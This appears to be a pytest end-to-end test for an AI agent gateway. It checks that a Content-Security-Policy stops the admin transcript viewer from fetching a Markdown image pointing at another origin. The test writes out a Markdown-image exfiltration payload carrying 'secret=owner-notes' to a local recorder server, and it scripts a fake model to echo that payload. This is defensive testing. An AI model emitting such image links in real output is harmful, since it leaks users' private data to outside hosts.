"""Content-Security-Policy in headless Chromium: a transcript holding a Markdown image that
points at another origin (data leaving by URL) is shown in the admin's transcript viewer, and
the browser never requests that image; the web chat page and the admin keep working under the
policy (no script or style they need is blocked)."""

import asyncio
import http.server
import subprocess
import sys
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.conftest import GatewayFactory
from tests.fakes.openai_server import FakeOpenAI, Text
from tests.gateway_process import ROOT, TOKEN, Gateway
from tests.wsclient import ProtocolClient

pytestmark = [pytest.mark.e2e]
WAIT_MS = 15_000


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        _Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on another origin that records what is asked of it."""
    _Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.hits
    finally:
        server.shutdown()


async def _chat(gateway: Gateway, text: str) -> None:
    async with gateway.connect() as ws:
        await ProtocolClient(ws).chat(text)


def test_a_remote_image_in_a_transcript_is_never_fetched(
    gateway_factory: GatewayFactory,
    fake_openai: FakeOpenAI,
    browser: Browser,
    elsewhere: tuple[str, list[str]],
) -> None:
    origin, hits = elsewhere
    gateway = gateway_factory(start=True)
    leak = f"![chart]({origin}/leak.png?secret=owner-notes)"
    fake_openai.script(Text(f"Here it is: {leak}"))
    # Playwright's sync API holds this thread's event loop: the chat runs in a thread of its own.
    chat_thread = threading.Thread(target=asyncio.run, args=(_chat(gateway, f"please {leak}"),))
    chat_thread.start()
    chat_thread.join(60)
    made = subprocess.run(
        [
            sys.executable,
            "manage.py",
            "shell",
            "-c",
            "from django.contrib.auth.models import User; from agents.models import Session; "
            "User.objects.create_superuser('root', 'root@example.com', 'pw-Very-long-1'); "
            "print('session', Session.objects.get(key='agent:main:main').pk)",
        ],
        cwd=ROOT,
        env=gateway.env,
        check=True,
        capture_output=True,
        text=True,
    )
    session = made.stdout.split("session")[-1].strip()
    page = browser.new_context().new_page()
    blocked: list[str] = []
    page.on("console", lambda m: blocked.append(m.text) if "Content Security" in m.text else None)
    page.goto(gateway.url + "/admin/login/")
    page.locator("#id_username").fill("root")
    page.locator("#id_password").fill("pw-Very-long-1")
    page.locator("input[type=submit]").click()
    expect(page.locator("#user-tools")).to_be_visible(timeout=WAIT_MS)

    page.goto(f"{gateway.url}/admin/agents/session/{session}/transcript/")
    expect(page.locator("body")).to_contain_text("Here it is", timeout=WAIT_MS)
    images = page.locator(f"img[src^='{origin}']")
    assert images.count() >= 1  # the Markdown was rendered as an image: a leak without the policy
    page.wait_for_timeout(500)
    assert hits == []
    assert blocked, "the browser reported no blocked load"

    # The web chat itself still works under the policy.
    chat = browser.new_context().new_page()
    errors: list[str] = []
    chat.on("pageerror", lambda exc: errors.append(str(exc)))
    chat.goto(gateway.url + "/")
    chat.locator("#token-input").fill(TOKEN)
    chat.locator("#token-form button[type=submit]").click()
    expect(chat.locator("#status")).to_have_attribute("data-state", "connected", timeout=WAIT_MS)
    assert errors == []
